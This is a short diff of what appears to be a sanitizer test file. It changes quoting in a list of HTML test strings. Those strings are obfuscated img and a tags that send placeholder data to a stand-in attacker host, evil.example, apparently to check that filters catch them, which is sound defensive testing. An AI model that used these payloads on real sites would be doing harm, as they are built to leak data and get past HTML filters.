@@ -46,7 +46,7 @@ FOREIGN = [
     '<img src="https://evil.example/?q={}">',
     "<img src='https://evil.example/?q=a b\n{}'>",
     "<img src=https://evil.example/{}>",
-    "<IMG\nSRC = \"//evil.example/{}\">",
+    '<IMG\nSRC = "//evil.example/{}">',
     '<img src="https://evil.example/' + "a " * 3_000 + '{}">',
     '<a href="&#104;ttps://evil.example/{}">',
     '<a href="ht\ttps://ev\nil.example/{}">',
